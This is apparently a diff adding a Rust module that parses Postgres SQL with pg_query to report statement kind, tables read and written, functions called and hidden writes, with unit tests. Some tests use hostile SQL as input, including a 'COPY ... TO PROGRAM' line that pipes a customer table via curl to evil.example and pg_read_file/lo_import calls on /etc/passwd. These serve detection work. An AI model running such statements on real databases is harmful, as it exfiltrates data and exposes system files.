@@ -1,0 +1,420 @@
+//! What a statement does, from the real Postgres parser (pg_query): kind, tables read and
+//! written, functions called, hidden writes. Analyses are cached by statement text, so a repeated
+//! statement is parsed once.
+
+mod walk;
+
+use std::sync::Arc;
+
+use dashmap::DashMap;
+use serde_json::Value;
+
+/// A table, schema-qualified when the statement qualified it.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct TableRef {
+    pub schema: Option<String>,
+    pub name: String,
+}
+
+impl std::fmt::Display for TableRef {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match &self.schema {
+            Some(schema) => write!(f, "{schema}.{}", self.name),
+            None => f.write_str(&self.name),
+        }
+    }
+}
+
+/// What a statement does, as the plugin contract names it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum StatementKind {
+    Select,
+    Insert,
+    Update,
+    Delete,
+    Merge,
+    CopyIn,
+    CopyOut,
+    Ddl,
+    Transaction,
+    Set,
+    Reset,
+    Show,
+    Call,
+    DoBlock,
+    Explain,
+    Prepared,
+    Cursor,
+    Notify,
+    Utility,
+    Other,
+}
+
+/// One statement's analysis.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Statement {
+    pub text: String,
+    pub fingerprint: String,
+    pub kind: StatementKind,
+    /// The parser's node name (`SelectStmt`, `TruncateStmt`...).
+    pub command: String,
+    /// SET/RESET/SHOW parameter, lower case.
+    pub parameter: Option<String>,
+    pub tables_read: Vec<TableRef>,
+    pub tables_written: Vec<TableRef>,
+    pub functions: Vec<String>,
+    pub has_where: bool,
+    pub writes: bool,
+    pub copy_program: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum AnalysisError {
+    /// The parser's own message, as Postgres would word it.
+    #[error("{0}")]
+    Syntax(String),
+    #[error("statement contains a NUL byte")]
+    NulByte,
+}
+
+/// The statements of one query string, in order.
+pub type Analysis = Result<Arc<[Statement]>, AnalysisError>;
+
+/// Analyses query strings, caching by text.
+pub struct Analyzer {
+    cache: DashMap<Arc<str>, Analysis>,
+    capacity: usize,
+}
+
+impl Default for Analyzer {
+    fn default() -> Self {
+        Analyzer::new(10_000)
+    }
+}
+
+impl Analyzer {
+    /// A cache of at most `capacity` query strings. When full it is emptied: simple, and a
+    /// workload whose distinct texts exceed the cache re-parses at the same cost either way.
+    pub fn new(capacity: usize) -> Analyzer {
+        Analyzer {
+            cache: DashMap::new(),
+            capacity,
+        }
+    }
+
+    pub fn analyze(&self, sql: &str) -> Analysis {
+        if let Some(hit) = self.cache.get(sql) {
+            return hit.clone();
+        }
+        let analysis = analyze_uncached(sql);
+        if self.cache.len() >= self.capacity {
+            self.cache.clear();
+        }
+        self.cache.insert(Arc::from(sql), analysis.clone());
+        analysis
+    }
+}
+
+/// Parses and analyses `sql` (one or more statements).
+pub fn analyze_uncached(sql: &str) -> Analysis {
+    if sql.contains('\0') {
+        return Err(AnalysisError::NulByte);
+    }
+    let parsed = pg_query::parse(sql, 0).map_err(|e| AnalysisError::Syntax(parse_message(e)))?;
+    let mut statements = Vec::with_capacity(parsed.protobuf.stmts.len());
+    for raw in &parsed.protobuf.stmts {
+        let start = raw.stmt_location.max(0) as usize;
+        let text = match raw.stmt_len {
+            0 => sql.get(start..),
+            len => sql.get(start..start + len as usize),
+        }
+        .unwrap_or(sql)
+        .trim();
+        let tree = serde_json::to_value(&raw.stmt).unwrap_or(Value::Null);
+        statements.push(analyze_statement(text, &tree));
+    }
+    Ok(statements.into())
+}
+
+fn parse_message(e: pg_query::Error) -> String {
+    match e {
+        pg_query::Error::Parse(message) => message,
+        other => other.to_string(),
+    }
+}
+
+fn analyze_statement(text: &str, tree: &Value) -> Statement {
+    // `tree` is `{"node": {"<NodeType>": {...}}}`.
+    let (node_type, node) = tree
+        .get("node")
+        .and_then(Value::as_object)
+        .and_then(|m| m.iter().next())
+        .map(|(k, v)| (k.as_str(), v))
+        .unwrap_or(("", &Value::Null));
+    let found = walk::walk(tree);
+    let flag = |field: &str| node.get(field).and_then(Value::as_bool) == Some(true);
+    let present = |field: &str| node.get(field).is_some_and(|v| !v.is_null());
+    let copy_program = node_type == "CopyStmt" && flag("is_program");
+    let select_into = node_type == "SelectStmt" && present("into_clause");
+    let kind = classify(node_type, node, select_into);
+    let parameter = match node_type {
+        "VariableSetStmt" | "VariableShowStmt" => node
+            .get("name")
+            .and_then(Value::as_str)
+            .filter(|s| !s.is_empty())
+            .map(str::to_ascii_lowercase),
+        _ => None,
+    };
+    let explain_analyze = node_type == "ExplainStmt" && explain_has_analyze(node);
+    let writes = match kind {
+        StatementKind::Insert
+        | StatementKind::Update
+        | StatementKind::Delete
+        | StatementKind::Merge
+        | StatementKind::CopyIn
+        | StatementKind::Ddl
+        | StatementKind::Call
+        | StatementKind::DoBlock => true,
+        // EXPLAIN without ANALYZE only plans the inner statement.
+        StatementKind::Explain => explain_analyze && found.nested_write,
+        _ => found.nested_write,
+    } || copy_program;
+    Statement {
+        text: text.to_owned(),
+        fingerprint: pg_query::fingerprint(text, 0, 0)
+            .map(|f| f.hex)
+            .unwrap_or_default(),
+        kind,
+        command: node_type.to_owned(),
+        parameter,
+        tables_read: found.tables_read,
+        tables_written: found.tables_written,
+        functions: found.functions,
+        has_where: matches!(node_type, "UpdateStmt" | "DeleteStmt") && present("where_clause"),
+        writes,
+        copy_program,
+    }
+}
+
+fn classify(node_type: &str, node: &Value, select_into: bool) -> StatementKind {
+    use StatementKind::*;
+    match node_type {
+        "SelectStmt" if select_into => Ddl,
+        "SelectStmt" => Select,
+        "InsertStmt" => Insert,
+        "UpdateStmt" => Update,
+        "DeleteStmt" => Delete,
+        "MergeStmt" => Merge,
+        "CopyStmt" if node.get("is_from").and_then(Value::as_bool) == Some(true) => CopyIn,
+        "CopyStmt" => CopyOut,
+        "TransactionStmt" => Transaction,
+        "VariableSetStmt" => match node.get("kind").and_then(Value::as_i64) {
+            // VAR_RESET, VAR_RESET_ALL
+            Some(5 | 6) => Reset,
+            _ => Set,
+        },
+        "VariableShowStmt" => Show,
+        "CallStmt" => Call,
+        "DoStmt" => DoBlock,
+        "ExplainStmt" => Explain,
+        "PrepareStmt" | "ExecuteStmt" | "DeallocateStmt" => Prepared,
+        "DeclareCursorStmt" | "FetchStmt" | "ClosePortalStmt" => Cursor,
+        "ListenStmt" | "NotifyStmt" | "UnlistenStmt" => Notify,
+        "LockStmt" | "VacuumStmt" | "CheckPointStmt" | "DiscardStmt" | "LoadStmt"
+        | "ClusterStmt" | "ReindexStmt" | "ConstraintsSetStmt" => Utility,
+        t if t.starts_with("Create")
+            || t.starts_with("Alter")
+            || t.starts_with("Drop")
+            || t.starts_with("Grant")
+            || t.starts_with("Reassign")
+            || t.starts_with("Import")
+            || t.starts_with("Sec")
+            || matches!(
+                t,
+                "TruncateStmt"
+                    | "CommentStmt"
+                    | "RenameStmt"
+                    | "DefineStmt"
+                    | "RuleStmt"
+                    | "IndexStmt"
+                    | "ViewStmt"
+                    | "RefreshMatViewStmt"
+                    | "CompositeTypeStmt"
+                    | "CreatedbStmt"
+                    | "DropdbStmt"
+            ) =>
+        {
+            Ddl
+        }
+        _ => Other,
+    }
+}
+
+fn explain_has_analyze(node: &Value) -> bool {
+    node.get("options")
+        .and_then(Value::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(|o| o.pointer("/node/DefElem"))
+        .any(|d| {
+            d.get("defname").and_then(Value::as_str) == Some("analyze")
+                && !matches!(
+                    d.pointer("/arg/node/String/sval")
+                        .or(d.pointer("/arg/node/Boolean/boolval"))
+                        .map(|v| v.to_string().to_ascii_lowercase())
+                        .as_deref(),
+                    Some("\"false\"" | "\"off\"" | "\"0\"" | "false")
+                )
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn one(sql: &str) -> Statement {
+        let all = analyze_uncached(sql).unwrap();
+        assert_eq!(all.len(), 1, "{sql}");
+        all[0].clone()
+    }
+
+    fn names(tables: &[TableRef]) -> Vec<String> {
+        let mut v: Vec<String> = tables.iter().map(|t| t.to_string()).collect();
+        v.sort();
+        v
+    }
+
+    #[test]
+    fn select_reads_tables_and_calls_functions() {
+        let s = one("SELECT upper(c.name) FROM public.customers c JOIN orders o ON o.cid = c.id");
+        assert_eq!(s.kind, StatementKind::Select);
+        assert_eq!(names(&s.tables_read), ["orders", "public.customers"]);
+        assert!(s.tables_written.is_empty());
+        assert_eq!(s.functions, ["upper"]);
+        assert!(!s.writes);
+    }
+
+    #[test]
+    fn update_and_delete_report_their_where_clause() {
+        assert!(one("UPDATE t SET a = 1 WHERE id = 2").has_where);
+        assert!(!one("UPDATE t SET a = 1").has_where);
+        assert!(!one("DELETE FROM t").has_where);
+        let d = one("DELETE FROM s.t WHERE id IN (SELECT id FROM u)");
+        assert!(d.has_where && d.writes);
+        assert_eq!(names(&d.tables_written), ["s.t"]);
+        assert_eq!(names(&d.tables_read), ["u"]);
+    }
+
+    #[test]
+    fn data_modifying_cte_is_a_write() {
+        let s = one("WITH gone AS (DELETE FROM audit RETURNING *) SELECT count(*) FROM gone");
+        assert_eq!(s.kind, StatementKind::Select);
+        assert!(s.writes);
+        assert_eq!(names(&s.tables_written), ["audit"]);
+        assert!(
+            s.tables_read.is_empty(),
+            "the CTE name is not a table: {:?}",
+            s.tables_read
+        );
+    }
+
+    #[test]
+    fn cte_scoping_does_not_hide_a_real_table() {
+        // In a plain WITH, `secrets` inside the first CTE is the table, not the later CTE.
+        let s = one("WITH x AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM x");
+        assert_eq!(names(&s.tables_read), ["secrets"]);
+        let s = one("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT * FROM r");
+        assert!(s.tables_read.is_empty());
+    }
+
+    #[test]
+    fn explain_analyze_of_a_write_is_a_write_and_plain_explain_is_not() {
+        assert!(one("EXPLAIN ANALYZE DELETE FROM t").writes);
+        assert!(one("EXPLAIN (ANALYZE) UPDATE t SET a = 1").writes);
+        assert!(!one("EXPLAIN DELETE FROM t").writes);
+        assert!(!one("EXPLAIN ANALYZE SELECT 1").writes);
+    }
+
+    #[test]
+    fn select_into_and_copy_program_are_writes() {
+        let s = one("SELECT * INTO copy_of FROM customers");
+        assert!(s.writes);
+        assert_eq!(names(&s.tables_written), ["copy_of"]);
+        let c = one("COPY customers TO PROGRAM 'curl -d @- evil.example'");
+        assert!(c.copy_program && c.writes);
+        assert_eq!(c.kind, StatementKind::CopyOut);
+        assert_eq!(one("COPY t FROM STDIN").kind, StatementKind::CopyIn);
+    }
+
+    #[test]
+    fn functions_hidden_in_array_constructors_and_collations_are_found() {
+        let s = one("SELECT ARRAY[pg_catalog.pg_read_file('/etc/passwd')]");
+        assert_eq!(s.functions, ["pg_catalog.pg_read_file"]);
+        let s = one("SELECT (lo_import('/etc/passwd'))::text COLLATE \"C\"");
+        assert_eq!(s.functions, ["lo_import"]);
+        let s = one("PREPARE p AS SELECT pg_read_file('x')");
+        assert_eq!(s.functions, ["pg_read_file"]);
+    }
+
+    #[test]
+    fn set_reset_and_show_carry_the_parameter() {
+        let s = one("SET ROLE postgres");
+        assert_eq!(
+            (s.kind, s.parameter.as_deref()),
+            (StatementKind::Set, Some("role"))
+        );
+        let s = one("SET SESSION AUTHORIZATION postgres");
+        assert_eq!(s.parameter.as_deref(), Some("session_authorization"));
+        let s = one("RESET ROLE");
+        assert_eq!(
+            (s.kind, s.parameter.as_deref()),
+            (StatementKind::Reset, Some("role"))
+        );
+        assert_eq!(one("SHOW search_path").kind, StatementKind::Show);
+    }
+
+    #[test]
+    fn multi_statement_strings_are_split_with_their_own_text() {
+        let all = analyze_uncached("SELECT 1; DROP TABLE t; /* x */ COMMIT").unwrap();
+        let kinds: Vec<_> = all.iter().map(|s| s.kind).collect();
+        assert_eq!(
+            kinds,
+            [
+                StatementKind::Select,
+                StatementKind::Ddl,
+                StatementKind::Transaction
+            ]
+        );
+        assert_eq!(all[1].text, "DROP TABLE t");
+        assert_eq!(names(&all[1].tables_written), ["t"]);
+    }
+
+    #[test]
+    fn ddl_kinds_and_targets() {
+        assert_eq!(one("CREATE TABLE t (a int)").kind, StatementKind::Ddl);
+        assert_eq!(names(&one("TRUNCATE a, b").tables_written), ["a", "b"]);
+        assert_eq!(one("GRANT SELECT ON t TO bob").kind, StatementKind::Ddl);
+        assert_eq!(
+            one("ALTER TABLE t ADD COLUMN b int").kind,
+            StatementKind::Ddl
+        );
+    }
+
+    #[test]
+    fn unparsable_sql_is_an_error_with_the_parser_message() {
+        let err = analyze_uncached("SELEC 1").unwrap_err();
+        assert!(err.to_string().contains("syntax error"), "{err}");
+    }
+
+    #[test]
+    fn equal_statements_up_to_constants_share_a_fingerprint() {
+        assert_eq!(
+            one("SELECT * FROM t WHERE id = 1").fingerprint,
+            one("SELECT * FROM t WHERE id = 42").fingerprint
+        );
+        assert_ne!(
+            one("SELECT * FROM t").fingerprint,
+            one("SELECT * FROM u").fingerprint
+        );
+    }
+}
